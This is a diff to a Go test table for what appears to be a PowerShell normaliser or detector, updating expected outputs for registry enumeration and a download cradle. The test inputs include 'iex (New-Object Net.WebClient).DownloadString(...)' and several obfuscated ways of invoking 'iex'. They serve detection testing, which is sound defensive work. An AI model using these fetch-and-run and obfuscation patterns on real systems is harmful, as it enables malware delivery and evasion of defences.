@@ -149,7 +149,7 @@ var cases = []struct {
 	{`[wmisearcher]'select * from win32_service'`, []string{`[wmisearcher] <select * from win32_service>`}},
 	{`([wmisearcher]"select * from win32_service").Get()`, []string{`[wmisearcher] <select * from win32_service> .get()`}},
 	{`[wmiclass]"\\dc01\root\cimv2:Win32_Service"`, []string{`[wmiclass] \\dc01\root\cimv2:Win32_Service`}},
-	{`[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SYSTEM\CurrentControlSet\Services').GetSubKeyNames()`, nil},
+	{`[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SYSTEM\CurrentControlSet\Services').GetSubKeyNames()`, []string{`[Microsoft.Win32.Registry]::LocalMachine SYSTEM\CurrentControlSet\Services .opensubkey() .getsubkeynames()`}},
 	{`[Reflection.Assembly]::LoadWithPartialName('x') | Out-Null`, []string{`[Reflection.Assembly]::LoadWithPartialName x |1`, `Out-Null`}},
 	{`[math]::Max(1,2); [string]::Join(',', 'a')`, nil},
 	// Backticks and quotes.
@@ -203,7 +203,7 @@ var cases = []struct {
 	{`&( $env:comspec[4,24,25]-join'') 'gsv'`, []string{`iex gsv #concat #substring #invoke_string`}},
 	{`& ($pshome[4]+$pshome[30]+'x') 'gsv'`, []string{`iex gsv #concat #substring #invoke_string`}},
 	{`iex (New-Object Net.WebClient).DownloadString('http://x/a')`,
-		[]string{`iex #invoke_string`, `New-Object Net.WebClient .downloadstring()`}},
+		[]string{`iex #invoke_string`, `New-Object Net.WebClient http://x/a .downloadstring()`}},
 	{"iex @'\nGet-Service\nnet start\n'@", []string{"iex <Get-Service\nnet start> #invoke_string"}},
 	{"$x = @\"\nGet-Service $env:OS\n\"@\niex $x", []string{"iex <Get-Service Windows_NT> #variable #invoke_string"}},
 	{`$s='';foreach($c in 71,115,118){$s+=[char]$c};& $s`, []string{`Gsv #concat #variable #invoke_string`}},
